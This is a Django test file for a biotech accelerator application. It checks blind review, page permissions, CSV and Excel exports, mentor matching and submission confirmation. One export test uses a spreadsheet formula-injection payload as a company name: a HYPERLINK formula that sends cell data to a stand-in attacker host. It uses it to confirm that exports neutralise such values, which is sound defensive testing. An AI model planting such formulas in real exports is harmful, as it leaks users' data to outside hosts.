import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from biocampus.accelerator.models import Application, Call
from biocampus.accelerator.services.applications import application_submit
from biocampus.accelerator.services.reviews import reviewer_assign
from biocampus.accelerator.tests.conftest import complete_application
from biocampus.conftest import UserFactory, member

pytestmark = pytest.mark.django_db


def test_blind_review_page_hides_identity_and_pages_are_guarded(client, call, acc_staff):
    Call.objects.filter(pk=call.pk).update(blind=True)
    founder = UserFactory()
    application = application_submit(
        actor=founder, application=complete_application(founder, call, "Secret Bio")
    )
    reviewer, other = UserFactory(), UserFactory()
    reviewer_assign(actor=acc_staff, application=application, reviewer=reviewer)
    client.force_login(reviewer)
    page = client.get(reverse("accelerator:review", args=[application.pk])).content.decode()
    assert "Secret Bio" not in page
    assert "Blind review" in page
    assert "Secret Bio" not in client.get(reverse("accelerator:reviews")).content.decode()
    client.force_login(other)
    assert client.get(reverse("accelerator:review", args=[application.pk])).status_code == 404
    assert client.get(reverse("accelerator:application", args=[application.pk])).status_code == 404
    assert client.get(reverse("accelerator:manage_call", args=[call.pk])).status_code == 403
    assert client.get(reverse("accelerator:manage")).status_code == 403
    client.force_login(acc_staff)
    csv = client.get(reverse("accelerator:manage_call", args=[call.pk]), {"format": "csv"})
    assert "Secret Bio" in csv.content.decode()  # the operator sees who applied


def test_the_applications_export_neutralises_a_formula_company_name(client, call, acc_staff):
    founder = UserFactory()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    application_submit(actor=founder, application=complete_application(founder, call, evil))
    client.force_login(acc_staff)
    url = reverse("accelerator:manage_call", args=[call.pk])
    body = client.get(url, {"format": "csv"}).content.decode("utf-8-sig")
    (row,) = list(csv.reader(io.StringIO(body)))[1:]
    assert row[1] == "'" + evil
    xlsx = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
    cell = xlsx["B2"]
    assert (cell.value, cell.data_type) == (evil, "s")  # text, never a formula
    assert xlsx["C2"].data_type == "s"  # the enterprise number keeps its leading zero
    assert xlsx["C2"].value.startswith("0")


def test_mentor_needs_milestones_and_adjusting(client, call, acc_staff, accelerator):
    founder = UserFactory()
    application = application_submit(
        actor=founder, application=complete_application(founder, call, "Cellula")
    )
    Application.objects.filter(pk=application.pk).update(status="accepted")
    mentor = member(accelerator, "mentor")
    client.force_login(mentor)
    client.post(
        reverse("accelerator:mentor"),
        {"tags": "gmp, ip", "sectors": "cgt", "languages": ["fr"], "capacity": 2},
    )
    assert mentor.mentor_profile.tags == ["gmp", "ip"]
    client.force_login(UserFactory())
    assert (
        client.post(
            reverse("accelerator:mentor"), {"tags": "x", "languages": ["fr"], "capacity": 1}
        ).status_code
        == 403
    )
    client.force_login(founder)
    client.post(
        reverse("accelerator:needs", args=[application.pk]), {"tags": "gmp", "languages": ["fr"]}
    )
    client.post(
        reverse("accelerator:milestones", args=[application.pk]),
        {"title": "GMP pilot batch", "due_on": "2027-06-30"},
    )
    milestone = application.milestones.get()
    client.post(
        reverse("accelerator:milestones", args=[application.pk]),
        {"milestone": milestone.pk, "status": "done"},
    )
    milestone.refresh_from_db()
    assert milestone.status == "done"
    client.force_login(acc_staff)
    client.post(reverse("accelerator:matches_propose", args=[call.pk]))
    match = application.mentor_matches.get()
    assert match.mentor == mentor
    client.post(
        reverse("accelerator:match_adjust", args=[call.pk]),
        {"application": application.pk, "mentor": mentor.pk},
    )
    client.post(reverse("accelerator:matches_confirm", args=[call.pk]))
    assert application.mentor_matches.get().confirmed


def test_the_final_submission_is_confirmed_on_its_own_page(client, call):
    founder = UserFactory()
    application = complete_application(founder, call, "Confirmia")
    client.force_login(founder)
    page = reverse("accelerator:application", args=[application.pk])
    form = client.get(page).context["form"]
    data = {k: v for k, v in form.initial.items() if v is not None}
    data.update({f"q_{q.pk}": "Yes, BSL-2." for q in call.questions.all()})
    response = client.post(page, {**data, "submit": "1"})
    # Asking to submit saves the draft and asks once more; nothing is sent yet.
    confirm = reverse("accelerator:application_submit", args=[application.pk])
    assert response.status_code == 302
    assert response["Location"] == confirm
    application.refresh_from_db()
    assert application.status == "draft"
    shown = client.get(confirm).content.decode()
    assert "you can no longer change it" in shown
    assert "Confirmia" in shown
    client.post(confirm)
    application.refresh_from_db()
    assert application.status == "submitted"


def test_only_the_applicant_confirms_a_submission(client, call):
    application = complete_application(UserFactory(), call, "Someone else's")
    client.force_login(UserFactory())
    confirm = reverse("accelerator:application_submit", args=[application.pk])
    assert client.post(confirm).status_code in (403, 404)
    application.refresh_from_db()
    assert application.status == "draft"


def test_saving_a_selection_says_how_many_were_accepted_reserved_and_rejected(
    client, call, acc_staff
):
    from biocampus.accelerator.tests.conftest import close

    names = ["Cellula", "Vectoria", "Biomold"]
    submitted = []
    for name in names:
        founder = UserFactory()
        submitted.append(
            application_submit(actor=founder, application=complete_application(founder, call, name))
        )
    close(call)
    client.force_login(acc_staff)
    decisions = dict(zip(submitted, ["accepted", "reserve", "rejected"], strict=True))
    response = client.post(
        reverse("accelerator:cohort_select", args=[call.pk]),
        {f"decision_{a.pk}": d for a, d in decisions.items()},
        follow=True,
    )
    body = response.content.decode()
    assert "Selection saved: 1 accepted, 1 on the reserve list, 1 not selected." in body
    assert "3 applicants whose status changed are being told." in body
    # Saving the same decisions again changes nobody's status, and says so.
    response = client.post(
        reverse("accelerator:cohort_select", args=[call.pk]),
        {f"decision_{a.pk}": d for a, d in decisions.items()},
        follow=True,
    )
    assert "0 applicants whose status changed are being told." in response.content.decode()
    assert Application.objects.filter(status="accepted").count() == 1
